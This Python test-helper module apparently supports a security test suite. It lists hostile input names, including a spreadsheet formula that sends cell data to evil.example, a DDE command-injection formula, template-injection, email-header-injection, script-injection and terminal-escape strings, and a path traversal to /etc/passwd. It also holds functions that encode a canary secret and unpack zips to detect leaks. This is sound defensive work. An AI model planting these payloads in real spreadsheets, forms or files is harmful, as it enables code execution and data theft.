"""Books in which every text is an attack, and a house whose every secret is a canary."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

_PIECE = 30
NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "+44 evil",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t-2+3",
    "{{ 7*191 }}{% raw %}{{ self.__init__ }}",
    "Eve\r\nBcc: victim@evil.example",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mEve",
    "../../etc/passwd\u202e\u0000",
)


def forms(secret: str) -> Iterator[bytes]:
    """As it is, and as it travels: in JSON, in an address, in base64 at each of the three offsets."""
    raw = secret.encode()
    yield raw
    if len(raw) > 2 * _PIECE:
        yield raw[-2 * _PIECE : -_PIECE]  # an output that is cut short shows less than all of it
    yield json.dumps(secret)[1:-1].encode()
    yield quote(secret, safe="").encode()
    for offset in range(3):
        body = base64.b64encode(b"\0" * offset + raw).rstrip(b"=")
        yield body[4:-1] if offset else body[:-1]


def unpacked(path: Path) -> Iterator[tuple[str, bytes]]:
    """What a file holds; of a zip, each file in it too, zips within it as well."""
    yield from _parts(path.name, path.read_bytes())


def _parts(name: str, body: bytes) -> Iterator[tuple[str, bytes]]:
    yield name, body
    if zipfile.is_zipfile(io.BytesIO(body)):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            for one in archive.namelist():
                yield from _parts(f"{name}/{one}", archive.read(one))
